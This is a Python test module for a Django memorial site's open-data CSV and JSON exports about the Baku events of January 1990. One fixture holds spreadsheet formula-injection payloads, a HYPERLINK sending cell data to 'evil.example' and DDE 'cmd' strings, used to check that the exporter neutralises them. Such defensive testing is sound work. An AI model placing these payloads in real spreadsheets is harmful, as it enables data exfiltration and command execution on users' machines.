import csv
import datetime
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from memorial.figures.models import Figure
from memorial.opendata import exports
from tests import factories

TYPES = {
    "string": str,
    "integer": int,
    "boolean": bool,
    "date": lambda value: datetime.date.fromisoformat(value),
}


@pytest.fixture
def content(db):
    """One published and one draft object of every kind."""
    source = factories.make_source(key="omm", title="Black January: Baku (1990)")
    published = {
        "events": factories.make_event(slug="troops-enter", sources=[source]),
        "figures": factories.make_figure(
            key="killed-omm", value_low=131, source=source, locator="p. 12"
        ),
        "articles": factories.make_article(slug="report"),
        "photos": factories.make_photo(slug="carnations", source=source),
        "commemorations": factories.make_commemoration(2026),
        "people": factories.make_person(source),
    }
    factories.make_figure(
        key="injured-range",
        quantity="injured",
        qualifier="range",
        value_low=700,
        value_high=800,
        source=source,
    )
    factories.make_event(slug="draft-event", is_published=False)
    factories.make_figure(key="draft-figure", is_published=False)
    factories.make_article(slug="draft-article", is_published=False)
    factories.make_photo(slug="draft-photo", is_published=False)
    factories.make_commemoration(2025, is_published=False)
    factories.make_person(source, is_published=False, slug="draft-person")
    return published


def download(client, name, fmt):
    response = client.get(reverse("opendata:table", kwargs={"name": name, "fmt": fmt}))
    assert response.status_code == 200
    text = response.content.decode()
    if fmt == "json":
        return json.loads(text)
    return list(csv.DictReader(io.StringIO(text)))


def package(client):
    return json.loads(client.get(reverse("opendata:datapackage")).content)


@pytest.mark.parametrize("name", exports.table_names())
def test_files_parse_and_match_the_datapackage_schema(client, content, name):
    """Each JSON and CSV file has exactly the schema's fields, every value of its type."""
    resources = {r["path"]: r for r in package(client)["resources"]}
    schema = resources[f"{name}.csv"]["schema"]["fields"]
    for fmt in ("json", "csv"):
        rows = download(client, name, fmt)
        assert rows
        for row in rows:
            assert list(row) == [field["name"] for field in schema]
            for field in schema:
                value = row[field["name"]]
                if value in (None, ""):
                    continue
                if fmt == "csv" and field["type"] == "integer":
                    value = int(value)
                if fmt == "csv" and field["type"] == "boolean":
                    assert value in ("True", "False")
                    continue
                parsed = TYPES[field["type"]](value)
                if field["type"] != "date":
                    assert isinstance(parsed, TYPES[field["type"]])


@pytest.mark.parametrize(
    ("name", "key", "expected"),
    [
        ("events", "slug", {"troops-enter"}),
        ("figures", "key", {"killed-omm", "injured-range"}),
        ("articles", "slug", {"report"}),
        ("photos", "slug", {"carnations"}),
        ("commemorations", "year", {2026}),
    ],
)
def test_exports_hold_exactly_the_published_objects(client, content, name, key, expected):
    """Drafts never leak into the downloads."""
    assert {row[key] for row in download(client, name, "json")} == expected
    assert {str(row[key]) for row in download(client, name, "csv")} == {str(v) for v in expected}


def test_figures_round_trip_the_toll_page(client, content):
    """From the figures' JSON the toll page's every figure can be rebuilt, with its citation."""
    rows = {row["key"]: row for row in download(client, "figures", "json")}
    toll = client.get(reverse("figures:list")).content.decode()
    for figure in Figure.objects.for_toll():
        row = rows[figure.key]
        rebuilt = Figure(
            quantity=row["quantity"],
            qualifier=row["qualifier"],
            value_low=row["value_low"],
            value_high=row["value_high"],
            as_of_date=row["as_of_date"] and datetime.date.fromisoformat(row["as_of_date"]),
            as_of_precision=row["as_of_precision"],
            as_of_note=row["as_of_note_en"],
        )
        assert rebuilt.value_display in toll and rebuilt.value_display == figure.value_display
        assert rebuilt.as_of_display == figure.as_of_display
        assert row["scope_en"] == figure.scope_en and row["source"] == figure.source.key
    assert rows["killed-omm"]["source_citation"].startswith("Black January: Baku (1990)")
    assert "p. 12" in rows["killed-omm"]["source_citation"]


def test_datapackage_has_a_licence_and_every_file(client, content):
    """The package names its licence and each table's CSV file, and its JSON file beside it."""
    data = package(client)
    assert data["licenses"][0]["name"] == "CC-BY-4.0"
    assert {r["path"] for r in data["resources"]} == {f"{n}.csv" for n in exports.table_names()}
    for resource in data["resources"]:
        assert f"{resource['name']}.json" in resource["description"]
        assert download(client, resource["name"], "json")


def test_unknown_tables_are_a_404(client, db):
    """Only the listed tables and formats exist."""
    url = reverse("opendata:table", kwargs={"name": "users", "fmt": "json"})
    assert client.get(url).status_code == 404
    url = reverse("opendata:table", kwargs={"name": "events", "fmt": "xml"})
    assert client.get(url).status_code == 404


def test_the_data_page_lists_every_download_and_the_footer_links_it(client, db):
    """The open data page links every file; every page's footer links the open data page."""
    html = client.get(reverse("opendata:index")).content.decode()
    assert reverse("opendata:datapackage") in html
    for name in exports.table_names():
        assert reverse("opendata:table", kwargs={"name": name, "fmt": "csv"}) in html
    assert reverse("opendata:index") in client.get(reverse("pages:home")).content.decode()


def test_export_command_writes_a_versioned_release(content, tmp_path, client):
    """export_data writes the same files and datapackage.json into <dir>/<version>/, once."""
    call_command("export_data", tmp_path, "--release", "2026.1", stdout=io.StringIO())
    folder = tmp_path / "2026.1"
    data = json.loads((folder / "datapackage.json").read_text())
    assert data["version"] == "2026.1"
    for resource in data["resources"]:
        assert (folder / resource["path"]).exists()
    assert json.loads((folder / "figures.json").read_text()) == download(client, "figures", "json")
    with pytest.raises(Exception, match="exists already"):
        call_command("export_data", tmp_path, "--release", "2026.1", stdout=io.StringIO())


def test_download_queries_do_not_grow_with_content(client, content, django_assert_max_num_queries):
    """A table is read in a fixed number of queries, however many rows."""
    for _ in range(5):
        factories.make_event()
        factories.make_photo()
    for name in exports.table_names():
        with django_assert_max_num_queries(6):
            download(client, name, "json")


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Open the report")',
    "credit": "+1+cmd|' /C calc'!A0",
    "caption": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "-2+3+cmd|' /C calc'!A0",
    "place": "\t=1+1",
    "alt": "\r=1+1",
    "spaced": "   =1+1",
}


@pytest.fixture
def formulas(db):
    source = factories.make_source(key="formula-source", title=FORMULAS["title"])
    event = factories.make_event(
        slug="formulas",
        title_en=FORMULAS["title"],
        summary_en=FORMULAS["summary"],
        place_en=FORMULAS["place"],
        sources=[source],
    )
    factories.make_photo(
        slug="formula-photo",
        credit=FORMULAS["credit"],
        caption_en=FORMULAS["caption"],
        alt_text_en=FORMULAS["alt"].strip() + " carnations",
        title_ru=FORMULAS["spaced"],
        source=source,
        events=[event],
    )
    factories.make_figure(key="formula-figure", value_low=131, source=source)


def formula_cells(tables):
    """Every cell of the tables that a spreadsheet would run as a formula."""
    return [
        (name, column, value)
        for name, rows in tables.items()
        for row in rows
        for column, value in row.items()
        if value.lstrip(" ").startswith(exports.FORMULA_STARTS)
    ]


def test_no_csv_cell_is_a_formula_and_the_text_stays_readable(client, formulas, tmp_path):
    """Downloads and the export command quote formula text; JSON keeps the text as it is."""
    downloaded = {name: download(client, name, "csv") for name in exports.table_names()}
    call_command("export_data", tmp_path, "--release", "r", stdout=io.StringIO())
    exported = {
        name: list(csv.DictReader(io.StringIO((tmp_path / "r" / f"{name}.csv").read_text())))
        for name in exports.table_names()
    }
    for tables in (downloaded, exported):
        assert formula_cells(tables) == []
        (event,) = [row for row in tables["events"] if row["slug"] == "formulas"]
        assert event["title_en"] == "'" + FORMULAS["title"]
        assert event["summary_en"] == "'" + FORMULAS["summary"]
        assert event["place_en"] == "'" + FORMULAS["place"]
        (photo,) = [row for row in tables["photos"] if row["slug"] == "formula-photo"]
        assert photo["credit"] == "'" + FORMULAS["credit"]
        assert photo["caption_en"] == "'" + FORMULAS["caption"]
        assert photo["title_ru"] == "'" + FORMULAS["spaced"]
        (figure,) = [row for row in tables["figures"] if row["key"] == "formula-figure"]
        assert figure["value_low"] == "131"
    (event,) = [row for row in download(client, "events", "json") if row["slug"] == "formulas"]
    assert event["title_en"] == FORMULAS["title"]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert exports.csv_cell(-5) == -5
    assert exports.csv_cell(-2.5) == -2.5
    assert exports.csv_cell(131) == 131
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell("Baku, 20 January 1990") == "Baku, 20 January 1990"
    assert exports.csv_cell("-5") == "'-5"
    rows = list(csv.reader(io.StringIO(exports.write_csv(["a", "b"], [{"a": -5, "b": "=1"}]))))
    assert rows == [["a", "b"], ["-5", "'=1"]]


def frictionless():
    """The validator's command, installed with the test tools; never skipped."""
    command = shutil.which("frictionless", path=str(Path(sys.executable).parent))
    assert command, "frictionless is installed with the test tools (pip install -e '.[test]')"
    return command


def test_the_release_passes_frictionless_validate(content, formulas, tmp_path):
    """`frictionless validate` accepts datapackage.json and every table it lists."""
    call_command("export_data", tmp_path, "--release", "2026.1", stdout=io.StringIO())
    folder = tmp_path / "2026.1"
    result = subprocess.run(
        [frictionless(), "validate", "--json", "datapackage.json"],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    report = json.loads(result.stdout)
    errors = [error["message"] for task in report["tasks"] for error in task["errors"]] + [
        error["message"] for error in report.get("errors", [])
    ]
    assert report["valid"], errors
    assert result.returncode == 0
    validated = {Path(task["place"]).name for task in report["tasks"]}
    assert validated == {f"{name}.csv" for name in exports.table_names()}


def test_the_package_lists_the_tables_and_points_to_the_json_files(content, tmp_path):
    """Each table once, as CSV with its schema; the same rows as JSON are named beside it."""
    package = exports.datapackage("2026.1")
    assert package["profile"] == "tabular-data-package"
    assert [resource["name"] for resource in package["resources"]] == list(exports.table_names())
    for resource in package["resources"]:
        assert resource["path"] == f"{resource['name']}.csv"
        assert resource["profile"] == "tabular-data-resource"
        assert resource["schema"]["fields"]
        assert f"{resource['name']}.json" in resource["description"]
